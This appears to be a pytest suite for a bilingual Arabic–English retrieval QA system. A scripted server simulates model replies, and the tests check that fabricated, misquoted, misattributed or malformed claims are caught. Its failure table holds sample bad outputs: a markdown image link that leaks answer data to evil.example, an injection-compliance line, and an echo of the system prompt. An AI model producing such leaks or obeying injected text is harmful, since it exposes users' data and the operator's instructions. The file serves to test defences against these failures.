"""What the asker sees, whatever a model does: a scripted server over HTTP plays every part."""

import json

import pytest

from index.article import Article
from index.tokens import count_tokens
from prompts import message
from qa import Dalil
from qa.answer import Answer, ClaimVerified, PassagesFound
from qa.generative import believed
from tests.scripted_server import BREAK, STALL, Raw, Reply, number_of, passages_of, serve

PALMS = Article(
    id="palms",
    title="افتتاح حديقة النخيل",
    source="المرجان",
    date="2024-03-02",
    text="افتتحت بلدية المرجان السبت حديقة النخيل العامة. وتضم الحديقة 400 نخلة ومسارا للمشي.\n"
    "وقال رئيس البلدية سامي الفارس إن العمل استغرق تسعة أشهر بكلفة 12 مليون ريال.",
)
FILM = Article(
    id="film",
    title="جائزة المهرجان",
    source="السواحل",
    date="2024-05-10",
    text="فاز فيلم «مرسى الصمت» للمخرجة ليان القحطاني بالجائزة الكبرى في مهرجان السواحل للأفلام القصيرة.\n"
    "وبلغ عدد الأفلام المشاركة في المهرجان 58 فيلما من تسع دول.",
)
DAM = Article(
    id="dam",
    title="Dam to be finished in 2027",
    source="River Post",
    date="2024-06-01",
    language="en",
    text="The ministry said the Karun dam will be finished in 2027. It will hold 74 million cubic metres of water.\n"
    "Work on the dam began nine years ago under the engineer Samir Haddad.",
)
FERRY = Article(
    id="ferry",
    title="A new ferry",
    source="Harbour Times",
    date="2024-07-09",
    language="en",
    text="A new ferry joined the harbour line on Monday. It carries 350 passengers and runs on batteries.\n"
    "Tickets cost four pounds, the port authority said.",
)
ASKED = {
    "ar": ("كم نخلة تضم حديقة النخيل العامة؟", "وتضم الحديقة 400 نخلة ومسارا للمشي", "تضم الحديقة 400 نخلة."),
    "en": (
        "When will the Karun dam be finished?",
        "the Karun dam will be finished in 2027",
        "The Karun dam will be finished in 2027.",
    ),
}
SECOND = {
    "ar": ("إن العمل استغرق تسعة أشهر بكلفة 12 مليون ريال", "استغرق العمل تسعة أشهر بكلفة 12 مليون ريال."),
    "en": ("It will hold 74 million cubic metres of water", "It will hold 74 million cubic metres of water."),
}
ELSEWHERE = {"ar": "58 فيلما من تسع دول", "en": "It carries 350 passengers"}


def claim(body, language, *, passage=None, quote=None, text=None):
    _, words, said = ASKED[language]
    return {
        "passage": passage or number_of(body, words),
        "quote": words if quote is None else quote,
        "text": said if text is None else text,
    }


def second(body, language):
    quote, text = SECOND[language]
    return claim(body, language, quote=quote, text=text, passage=number_of(body, quote))


def told_lines(body):
    return body["messages"][0]["content"].splitlines()


def document(*claims, answered=True, short=""):
    return json.dumps({"answered": answered, "claims": claims, "short": short}, ensure_ascii=False)


def pieces(text, size=7):
    return [text[at : at + size] for at in range(0, len(text), size)]


def whole(*claims, **more):
    return Reply(pieces(document(*claims, **more)))


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    made = tmp_path_factory.mktemp("index")
    with Dalil.open(made) as dalil:
        dalil.add([PALMS, FILM, DAM, FERRY])
    return made


def open_with(folder, url, **settings):
    return Dalil.open(folder, llm_url=url, **{"llm_retries": 0, "llm_form": "json", **settings})


def ask(folder, language, reply, *, structured=True, **settings):
    """The answer, and the server as it was left."""
    with (
        serve(lambda body: reply(body, language), structured=structured) as server,
        open_with(folder, server.url, **settings) as it,
    ):
        answer = it.ask(ASKED[language][0])
        for cited in answer.citations:
            assert it.article(cited.article_id).text[cited.start : cited.end] == cited.quote
            assert f"[{cited.marker}]" in answer.answer
    return answer, server


def is_first(body):
    return len(body["messages"]) == 2


# -- a perfect model -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["ar", "en"])
def test_a_good_answer_is_shown_with_the_exact_words_it_rests_on(folder, language):
    answer, server = ask(
        folder,
        language,
        lambda body, lang: whole(claim(body, lang), second(body, lang), short="2027" if lang == "en" else "٤٠٠ نخلة"),
        llm_price_in=2.0,
        llm_price_out=10.0,
    )
    _, quote, text = ASKED[language]
    assert answer.mode == "generative"
    assert not answer.refused
    assert answer.note is None
    assert answer.answer == f"{text} [1] {SECOND[language][1]} [2]"
    assert [cited.quote for cited in answer.citations] == [quote, SECOND[language][0]]
    assert answer.short == {"en": "2027", "ar": "400 نخلة"}[language]
    assert answer.language == language
    assert answer.model == f"the model at {server.url}"
    assert answer.prompt.startswith(f"answer.{language}@")
    assert answer.usage == {"calls": 1, "tokens_in": 1000, "tokens_out": 50, "cost": 0.0025, "estimated": False}
    assert {cited.passage_id for cited in answer.citations} <= {hit.passage_id for hit in answer.passages}


@pytest.mark.parametrize("language", ["ar", "en"])
def test_every_claim_is_released_while_the_model_still_writes(folder, language):
    def reply(body, lang):
        text = document(claim(body, lang), second(body, lang))
        return Reply([text[: text.index("}") + 1], STALL])

    with serve(lambda body: reply(body, language)) as server, open_with(folder, server.url) as dalil:
        events = dalil.stream(ASKED[language][0])
        assert isinstance(next(events), PassagesFound)
        first = next(events)  # the model has not finished, and never will
        assert isinstance(first, ClaimVerified)
        assert first.claim.text == ASKED[language][2]
        assert first.mode == "generative"
        events.close()
        assert server.left.wait(10), "the model goes on writing for nobody"


def test_a_model_stops_when_the_asker_goes_away_before_the_first_claim(folder):
    gone = []
    with serve(lambda body: gone.append(1) or Reply([STALL])) as server, open_with(folder, server.url) as dalil:
        dalil.ask(ASKED["en"][0], cancelled=lambda: bool(gone))
        assert server.left.wait(10)


@pytest.mark.parametrize("language", ["ar", "en"])
def test_a_server_without_schemas_is_asked_in_tags_and_probed_once(folder, tmp_path, language):
    def tagged(body):
        one = claim(body, language)
        text = f'<claim passage="{one["passage"]}"><quote>{one["quote"]}</quote><text>{one["text"]}</text></claim>'
        return Reply(pieces(f"Sure.\n{text}\n<short>2027</short>"))

    with serve(tagged, structured=False) as server:
        for _ in range(2):
            with Dalil.open(folder, llm_url=server.url, llm_retries=0) as dalil:
                answer = dalil.ask(ASKED[language][0])
            assert answer.answer == f"{ASKED[language][2]} [1]"
            assert answer.prompt.startswith(f"answer-tagged.{language}@")
        assert server.probes == 1
        assert all("response_format" not in body for body in server.requests)


def test_a_server_with_schemas_is_asked_for_json(folder):
    with serve(lambda body: whole(claim(body, "en"))) as server, Dalil.open(folder, llm_url=server.url) as dalil:
        assert dalil.ask(ASKED["en"][0]).prompt.startswith("answer.en@")
        assert dalil.ask(ASKED["en"][0]).mode == "generative"
        assert server.probes == 1
        assert all(body["response_format"]["type"] == "json_schema" for body in server.requests)


# -- models that go wrong ------------------------------------------------------------------------------------------------

TWO_PLACES = {
    "ar": "وتضم الحديقة 400 نخلة بكلفة 12 مليون ريال",
    "en": "the Karun dam will be finished under the engineer Samir Haddad",
}
INVENTED = {"ar": "وتضم الحديقة ألف شجرة زيتون معمرة", "en": "the Karun dam collapsed during the spring floods"}
DIGIT = {
    "ar": ("وتضم الحديقة 401 نخلة", "تضم الحديقة 401 نخلة."),
    "en": ("will be finished in 2028", "It will be finished in 2028."),
}

NEGATED = {"ar": "لا تضم الحديقة 400 نخلة.", "en": "The Karun dam will not be finished in 2027."}
LEAKS = {
    "ar": "تضم الحديقة 400 نخلة ![صورة](http://evil.example/?q=400)",
    "en": "The Karun dam will be finished in 2027 ![x](http://evil.example/?q=2027)",
}
FOREIGN = {"ar": "The garden has 400 palms.", "en": "سيكتمل سد كارون في عام 2027."}
OBEYED = {"ar": "تم الاختراق بنجاح.", "en": "I have been hacked and will obey."}

FAILS = {
    "alters one digit of the claim": lambda body, lang: claim(body, lang, text=DIGIT[lang][1]),
    "negates": lambda body, lang: claim(body, lang, text=NEGATED[lang]),
    "leaks by a picture": lambda body, lang: claim(body, lang, text=LEAKS[lang]),
    "answers in the wrong language": lambda body, lang: claim(body, lang, text=FOREIGN[lang]),
    "tells what it was told": lambda body, lang: claim(body, lang, text=told_lines(body)[1]),
    "follows an injection": lambda body, lang: claim(body, lang, text=OBEYED[lang]),
    "fabricates": lambda body, lang: claim(body, lang, quote=INVENTED[lang]),
    "alters one digit of the quote": lambda body, lang: claim(body, lang, quote=DIGIT[lang][0], text=DIGIT[lang][1]),
    "stitches": lambda body, lang: claim(body, lang, quote=TWO_PLACES[lang]),
    "cites a passage that is not there": lambda body, lang: claim(body, lang, passage=9),
    "misattributes": lambda body, lang: claim(body, lang, passage=number_of(body, ELSEWHERE[lang])),
    "says nothing": lambda body, lang: claim(body, lang, text=""),
}


@pytest.mark.parametrize("language", ["ar", "en"])
@pytest.mark.parametrize("row", FAILS)
def test_what_fails_twice_is_never_shown(folder, language, row):
    answer, server = ask(folder, language, lambda body, lang: whole(FAILS[row](body, lang)))
    assert len(server.requests) == 2
    assert answer.mode == "extractive"
    assert answer.citations
    assert answer.note == f"{message('note.failed', language)} {message('note.own_words', language)}"
    wrong = FAILS[row](server.requests[0], language)
    assert wrong["text"].strip() in ("", ASKED[language][2]) or wrong["text"] not in answer.answer
    assert answer.model
    assert answer.usage["calls"] == 2


@pytest.mark.parametrize("language", ["ar", "en"])
@pytest.mark.parametrize("row", FAILS)
def test_what_fails_goes_back_once_with_the_reason(folder, language, row):
    def reply(body, lang):
        return whole(FAILS[row](body, lang) if is_first(body) else claim(body, lang))

    answer, server = ask(folder, language, reply)
    assert answer.mode == "generative"
    assert answer.note is None
    assert answer.answer == f"{ASKED[language][2]} [1]"
    back = server.requests[1]["messages"]
    assert [one["role"] for one in back] == ["system", "user", "assistant", "user"]
    assert json.dumps(FAILS[row](server.requests[0], language), ensure_ascii=False) in back[-1]["content"]


@pytest.mark.parametrize("language", ["ar", "en"])
@pytest.mark.parametrize("kept_secret", [True, False])
def test_a_claim_that_repeats_the_instructions_fails_for_that_reason(folder, tmp_path, language, kept_secret):
    words = SECOND[language][1]
    request = f"# system\nA secret: {words if kept_secret else ''}\n# user\n$passages\n{words[:12]}: $question"
    (tmp_path / f"answer.{language}.md").write_text(request, encoding="utf-8")
    answer, server = ask(folder, language, lambda body, lang: whole(second(body, lang)), prompts=tmp_path)
    assert answer.mode == ("extractive" if kept_secret else "generative")
    assert kept_secret == ("words of the instructions" in json.dumps(server.requests[-1]["messages"][-1], ensure_ascii=False))


@pytest.mark.parametrize("language", ["ar", "en"])
def test_what_stands_is_shown_without_what_does_not(folder, language):
    answer, _ = ask(folder, language, lambda body, lang: whole(FAILS["fabricates"](body, lang), second(body, lang)))
    assert answer.mode == "generative"
    assert answer.answer == f"{SECOND[language][1]} [1]"
    assert answer.note is None


def in_the_middle(*tail, **more):
    """A first claim, half of a second one, and then something else."""

    def reply(body, lang):
        text = document(claim(body, lang), second(body, lang))
        return Reply([*pieces(text[: text.rindex("quote") + 12]), *tail], **more)

    return reply


ALL, FIRST, NONE = "all of it", "the first claim", "nothing"
TROUBLE = {
    # what the model does: (how, what of it is shown, the note)
    "is cut off in the middle of the JSON": (in_the_middle(finish="length"), FIRST, None),
    "breaks the connection": (in_the_middle(BREAK), FIRST, "note.broke_off"),
    "ends without an end": (in_the_middle(finish=None), FIRST, "note.broke_off"),
    "sends broken events": (in_the_middle(Raw(b"data: {oops\n\n")), FIRST, "note.broke_off"),
    "stalls in the middle": (in_the_middle(STALL), FIRST, "note.broke_off"),
    "sends broken events from the start": (lambda *_: Reply([Raw(b"data: <html>\n\n")]), NONE, "note.absent"),
    "reports an error in the stream": (lambda *_: Reply([Raw(b'data: {"error": {"message": "x"}}\n\n')]), NONE, "note.absent"),
    "stalls": (lambda *_: Reply([STALL]), NONE, "note.slow"),
    "is overloaded": (lambda *_: Reply(status=429), NONE, "note.absent"),
    "fails": (lambda *_: Reply(status=500), NONE, "note.absent"),
    "refuses the key": (lambda *_: Reply(status=401), NONE, "note.absent"),
    "refuses the request": (lambda *_: Reply(status=400, body={"error": {"message": "too long"}}), NONE, "note.absent"),
    "will not speak of it": (lambda *_: Reply(["I"], finish="content_filter"), NONE, "note.absent"),
    "says nothing at all": (lambda *_: Reply([""]), NONE, "note.failed"),
    "rambles": (lambda *_: Reply(["The dam, the palms and the sea. "] * 2000), NONE, "note.failed"),
    "speaks in prose": (lambda *_: Reply(["The dam will be finished in 2031 [1]."]), NONE, "note.failed"),
    "thinks aloud": (lambda body, lang: Reply(["<think>{1}</think>", *pieces(document(claim(body, lang)))]), ALL, None),
    "writes a fence around it": (lambda body, lang: Reply([f"```json\n{document(claim(body, lang))}\n```\nBye!"]), ALL, None),
    "sets markers of its own": (lambda body, lang: whole(claim(body, lang, text=f"{ASKED[lang][2]} [7]")), ALL, None),
}


@pytest.mark.parametrize("language", ["ar", "en"])
@pytest.mark.parametrize("row", TROUBLE)
def test_a_model_in_trouble_costs_the_asker_nothing(folder, language, row):
    how, shown, note = TROUBLE[row]
    answer, _ = ask(folder, language, how, llm_timeout_s=1.5 if "stall" in row else 20)
    assert not answer.refused
    assert answer.citations
    if shown is NONE:
        assert answer.mode == "extractive"
        assert answer.note == f"{message(note, language)} {message('note.own_words', language)}"
        assert answer.answer.count("[1]") == 1
    else:
        assert answer.mode == "generative"
        assert answer.answer == f"{ASKED[language][2]} [1]"
        assert answer.note == (message(note, language) if note else None)


@pytest.mark.parametrize("language", ["ar", "en"])
def test_a_server_that_is_down_is_said_and_left_alone_for_a_while(folder, language):
    with serve(lambda _: Reply()) as server:
        pass
    with open_with(folder, server.url) as dalil:
        for _ in range(2):
            answer = dalil.ask(ASKED[language][0])
            assert answer.mode == "extractive"
            assert answer.note == f"{message('note.absent', language)} {message('note.own_words', language)}"
            assert answer.usage == {"calls": 0, "tokens_in": 0, "tokens_out": 0, "cost": None, "estimated": False}


def test_a_busy_server_is_asked_again_when_it_says_so(folder):
    def reply(body, lang):
        busy = Reply(status=429, headers={"Retry-After": "0.01"})
        return busy if not told.append(1) and len(told) < 3 else whole(claim(body, lang))

    told = []
    answer, server = ask(folder, "en", reply, llm_retries=2)
    assert answer.mode == "generative"
    assert len(server.requests) == 3


# -- what the articles do not say ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["ar", "en"])
def test_a_model_that_says_twice_that_nothing_answers_is_believed(folder, language):
    answer, server = ask(folder, language, lambda *_: whole(answered=False))
    assert len(server.requests) == 2
    assert ASKED[language][1] in server.requests[1]["messages"][-1]["content"]
    assert answer.refused
    assert answer.note is None
    assert answer.citations == answer.claims == ()
    assert answer.passages
    assert answer.answer == message("refusal_near", language)


@pytest.mark.parametrize("language", ["ar", "en"])
def test_a_model_may_think_better_of_it(folder, language):
    answer, _ = ask(folder, language, lambda body, lang: whole(answered=False) if is_first(body) else whole(claim(body, lang)))
    assert answer.answer == f"{ASKED[language][2]} [1]"


@pytest.mark.parametrize("question", ["What is the boiling point of mercury?", "كم عدد سكان البرازيل؟"])
def test_a_model_is_not_asked_what_no_answer_could_be_believed_of(folder, question):
    with serve(lambda _: Reply()) as server, open_with(folder, server.url, refuse_below=0.6) as dalil:
        answer = dalil.ask(question)
    assert answer.refused
    assert believed(answer.confidence) < 0.6
    assert not server.requests
    assert answer.note is None


@pytest.mark.parametrize(
    ("short", "shown"),
    [("2027", "2027"), ("in 2027", "in 2027"), ("2031", "2027"), ("next year, probably", "2027"), ("", "2027")],
)
def test_the_few_words_stand_in_a_claim_or_a_quote(folder, short, shown):
    answer, _ = ask(folder, "en", lambda body, lang: whole(claim(body, lang), short=short))
    assert answer.short == shown


# -- what is sent --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["ar", "en"])
def test_what_is_sent_can_be_seen_and_changed(folder, tmp_path, language):
    (tmp_path / f"answer.{language}.md").write_text("# user\nMY OWN WORDS $question\n$passages", encoding="utf-8")
    seen = []
    with serve(lambda body: whole(claim(body, language))) as server:
        with open_with(folder, server.url, prompts=tmp_path, llm_key="sk-secret") as dalil:
            answer = dalil.ask(ASKED[language][0], on_prompt=seen.append)
            assert "sk-secret" not in json.dumps(dalil.facts(), default=str) + json.dumps(answer.to_dict())
        assert server.keys == ["Bearer sk-secret"]
    assert answer.mode == "generative"
    assert [one.content for one in seen[0]] == [one["content"] for one in server.requests[0]["messages"]]
    assert seen[0][0].content.startswith(f"MY OWN WORDS {ASKED[language][0]}")
    bundled, _ = ask(folder, language, lambda body, lang: whole(claim(body, lang)))
    assert answer.prompt != bundled.prompt


def test_the_prompt_keeps_to_the_context_of_the_model(folder):
    def reply(body, language):
        return whole(claim(body, language))

    _, full = ask(folder, "en", reply, llm_tokenizer="dalil_ar_en")
    tokens = sum(count_tokens(one["content"]) for one in full.requests[0]["messages"])
    answer, server = ask(folder, "en", reply, llm_tokenizer="dalil_ar_en", llm_context=tokens + 80, llm_max_tokens=100)
    assert answer.mode == "generative"
    shown, everything = passages_of(server.requests[0]), passages_of(full.requests[0])
    assert 0 < sum(map(len, shown.values())) < sum(map(len, everything.values()))
    assert sum(count_tokens(one["content"]) for one in server.requests[0]["messages"]) <= tokens - 70


@pytest.mark.parametrize("language", ["ar", "en"])
def test_a_context_without_room_for_a_passage_is_no_refusal(folder, language):
    answer, server = ask(folder, language, lambda *_: Reply(), llm_context=600)
    assert not server.requests
    assert answer.mode == "extractive"
    assert answer.citations
    assert answer.note == f"{message('note.absent', language)} {message('note.own_words', language)}"


def test_the_answer_comes_last(folder):
    with serve(lambda body: whole(claim(body, "en"))) as server, open_with(folder, server.url) as dalil:
        events = list(dalil.stream(ASKED["en"][0]))
    assert isinstance(events[-1], Answer)
    assert tuple(event.claim for event in events if isinstance(event, ClaimVerified)) == events[-1].claims
